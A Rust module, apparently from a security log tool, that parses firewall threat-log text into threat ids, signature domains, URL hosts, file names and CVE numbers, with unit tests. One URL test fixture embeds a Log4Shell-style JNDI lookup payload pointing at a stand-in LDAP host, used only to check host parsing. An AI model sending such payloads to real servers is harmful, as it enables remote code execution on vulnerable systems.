//! What is inside the vendor's texts: threat names with their number, domains, hosts of URLs, CVEs.

/// Splits `Name(ID)`: the id is the last group in parentheses, because names have groups of their own, as in
/// `Suspicious DNS Query (generic:evil.example)(4100111)`. URL logs have `(9999)` and no name; old releases write a
/// bare number as the name.
pub(crate) fn threat(text: &str) -> (Option<&str>, Option<&str>) {
    let text = text.trim();
    let split = text.strip_suffix(')').and_then(|rest| rest.rsplit_once('('));
    match split {
        Some((name, id)) if !id.is_empty() && id.bytes().all(|byte| byte.is_ascii_digit()) => {
            let name = name.trim_end();
            ((!name.is_empty()).then_some(name), Some(id))
        }
        _ if !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit()) => (None, Some(text)),
        _ => ((!text.is_empty()).then_some(text), None),
    }
}

/// Ranges of ids whose signatures are about names that were looked up: DNS signatures of the antivirus and WildFire
/// packages, and DNS Security.
const DNS_SIGNATURES: [std::ops::RangeInclusive<u64>; 2] = [4_000_000..=4_999_999, 109_000_001..=109_999_999];

/// Tells whether a spyware signature is about a name that was looked up.
pub(crate) fn is_dns_signature(name: &str, id: Option<u64>, category: &str) -> bool {
    id.is_some_and(|id| DNS_SIGNATURES.iter().any(|range| range.contains(&id)))
        || name.starts_with("Suspicious DNS Query")
        || name.starts_with("Suspicious Domain")
        || category.starts_with("dns")
}

/// Returns the domain that a DNS signature's name holds: `Suspicious DNS Query (generic:evil.example)`,
/// `Phishing:evil.example`.
pub(crate) fn domain_of_signature(name: &str) -> Option<&str> {
    let group = name.strip_suffix(')').and_then(|rest| rest.rsplit_once('(')).map(|(_, group)| group);
    let text = group.unwrap_or(name);
    let domain = text.rsplit_once(':').map_or(text, |(_, domain)| domain).trim();
    is_host(domain).then_some(domain)
}

/// Returns the host of a URL with or without a scheme; `None` when what stands there is no host, as in a bare path
/// or file name.
pub(crate) fn host_of_url(url: &str) -> Option<&str> {
    let rest = without_scheme(url);
    let end = rest.find(['/', '?', '#']);
    let has_path = end.is_some_and(|end| rest.as_bytes().get(end) == Some(&b'/'));
    let authority = end.and_then(|end| rest.get(..end)).unwrap_or(rest);
    let authority = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    let host = match authority.strip_prefix('[') {
        Some(v6) => v6.split_once(']')?.0,
        None => authority.rsplit_once(':').map_or(authority, |(host, _)| host),
    };
    // `ad.aspx?f=1` and `install.exe` look like hosts and are none; only a path tells.
    (is_host(host) && (has_path || rest.len() != url.len())).then_some(host)
}

/// Takes the scheme off; `://` further on belongs to the path or query.
fn without_scheme(url: &str) -> &str {
    match url.split_once("://") {
        Some((scheme, rest)) if scheme.bytes().all(|byte| byte.is_ascii_alphanumeric()) => rest,
        _ => url,
    }
}

/// Returns the last part of a URL's path when it is a file's name.
pub(crate) fn file_of_url(url: &str) -> Option<&str> {
    let path = url.split(['?', '#']).next()?;
    let file = path.rsplit_once('/')?.1;
    (!file.is_empty()).then_some(file)
}

/// Returns the CVE that a text names.
pub(crate) fn cve(text: &str) -> Option<&str> {
    let start = text.find("CVE-")?;
    let rest = text.get(start..)?;
    let end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '-').unwrap_or(rest.len());
    let cve = rest.get(..end)?;
    let (year, number) = cve.get(4..)?.split_once('-')?;
    let is_number = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    (year.len() == 4 && number.len() >= 4 && is_number(year) && is_number(number)).then_some(cve)
}

/// Tells whether text can be a name or address with at least one dot (or an IPv6 address).
pub(crate) fn is_host(text: &str) -> bool {
    let mut dots = 0;
    for byte in text.bytes() {
        match byte {
            b'.' | b':' => dots += 1,
            b'-' | b'_' => {}
            _ if byte.is_ascii_alphanumeric() || byte >= 0x80 => {}
            _ => return false,
        }
    }
    // No name is longer than 253 bytes (RFC 1035).
    dots > 0 && dots < text.len() && text.len() <= 253 && !text.starts_with('.')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn threat_id_is_the_last_group() {
        let cases = [
            (
                "Virus/Win32.WGeneric.synth(280012345)",
                (Some("Virus/Win32.WGeneric.synth"), Some("280012345")),
            ),
            (
                "Suspicious DNS Query (generic:evil.example)(4100111)",
                (Some("Suspicious DNS Query (generic:evil.example)"), Some("4100111")),
            ),
            ("Windows Executable (EXE)(52020)", (Some("Windows Executable (EXE)"), Some("52020"))),
            ("(9999)", (None, Some("9999"))),
            ("428148050(428148050)", (Some("428148050"), Some("428148050"))),
            ("9999", (None, Some("9999"))),
            ("Name (part)", (Some("Name (part)"), None)),
            ("Name()", (Some("Name()"), None)),
            ("Name(12", (Some("Name(12"), None)),
            (")", (Some(")"), None)),
            ("", (None, None)),
        ];
        for (text, expected) in cases {
            assert_eq!(threat(text), expected, "{text}");
        }
    }

    #[test]
    fn domains_in_signature_names() {
        let cases = [
            ("Suspicious DNS Query (generic:evil.example)", Some("evil.example")),
            ("Suspicious DNS Query (Backdoor.Synth:c2.evil.example)", Some("c2.evil.example")),
            ("Phishing:evil.example", Some("evil.example")),
            ("DGA:xkqz.example", Some("xkqz.example")),
            ("Tunneling", None),
            ("Phishing:", None),
            ("a:b c.example", None),
        ];
        for (name, expected) in cases {
            assert_eq!(domain_of_signature(name), expected, "{name}");
        }
        assert!(is_dns_signature("x", Some(109_010_001), ""));
        assert!(is_dns_signature("x", Some(4_100_111), ""));
        assert!(is_dns_signature("x", None, "dns-c2"));
        assert!(!is_dns_signature("Synth.Gen Command and Control Traffic", Some(13_235), "spyware"));
    }

    #[test]
    fn hosts_of_urls() {
        let cases = [
            ("www.shop.example/a?b=c/d", Some("www.shop.example")),
            ("www.shop.example:8080/", Some("www.shop.example")),
            ("https://user@www.shop.example/x", Some("www.shop.example")),
            ("https://www.shop.example", Some("www.shop.example")),
            ("192.0.2.7/x", Some("192.0.2.7")),
            ("[2001:db8::7]:443/x", Some("2001:db8::7")),
            ("ad.aspx?f=300x250", None),
            ("install.exe", None),
            ("www.kita.example/login?x=${jndi:ldap://203.0.113.9/a}", Some("www.kita.example")),
            ("/only/path", None),
            ("localhost/x", None),
            ("${jndi:ldap://x", None),
            ("", None),
        ];
        for (url, expected) in cases {
            assert_eq!(host_of_url(url), expected, "{url}");
        }
        assert_eq!(file_of_url("www.shop.example/dl/tool.exe?x=/y"), Some("tool.exe"));
        assert_eq!(file_of_url("www.shop.example/"), None);
        assert_eq!(file_of_url("tool.exe"), None);
    }

    #[test]
    fn cves_in_names() {
        let cases = [
            ("Apache Log4j Remote Code Execution CVE-2021-44228", Some("CVE-2021-44228")),
            ("(CVE-2021-44228)", Some("CVE-2021-44228")),
            ("CVE-2021", None),
            ("CVE-21-44228", None),
            ("CVE-2021-44", None),
            ("none", None),
        ];
        for (text, expected) in cases {
            assert_eq!(cve(text), expected, "{text}");
        }
    }
}
